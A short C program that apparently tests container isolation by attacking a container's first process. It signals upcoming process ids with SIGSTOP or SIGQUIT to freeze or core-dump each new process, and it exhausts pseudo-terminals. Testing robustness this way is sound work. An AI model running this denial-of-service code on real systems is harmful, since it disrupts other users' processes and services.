/*
 * What a user in a container may try against its first process, for so many seconds: "attack stop SECONDS" stops each new process of
 * the user, since the next processes get the next pids; "quit" ends them by a signal that dumps core; "ptys" takes all terminals.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

enum { AHEAD = 64 };

static void signal_next(int signal, double seconds) {
    double end = (double)time(NULL) + seconds;
    int self = getpid();
    while ((double)time(NULL) < end) {
        char text[128] = "";
        int fd = open("/proc/loadavg", O_RDONLY), newest = 0;
        if (fd >= 0 && read(fd, text, sizeof text - 1) > 0) newest = atoi(strrchr(text, ' ') + 1);
        if (fd >= 0) close(fd);
        for (int round = 0; round < 20; round++)
            for (int pid = newest + 1; pid <= newest + AHEAD; pid++)
                if (pid != self) kill(pid, signal);
    }
}

static void take_terminals(unsigned seconds) {
    static const char full[] = "full\n";
    while (open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0) {}
    if (write(STDOUT_FILENO, full, sizeof full - 1) > 0) sleep(seconds);
}

int main(int argc, char **argv) {
    double seconds = argc > 2 ? atof(argv[2]) : 10;
    if (argc > 1 && !strcmp(argv[1], "stop")) signal_next(SIGSTOP, seconds);
    else if (argc > 1 && !strcmp(argv[1], "quit")) signal_next(SIGQUIT, seconds);
    else if (argc > 1 && !strcmp(argv[1], "ptys")) take_terminals((unsigned)seconds);
    else return 2;
    return 0;
}
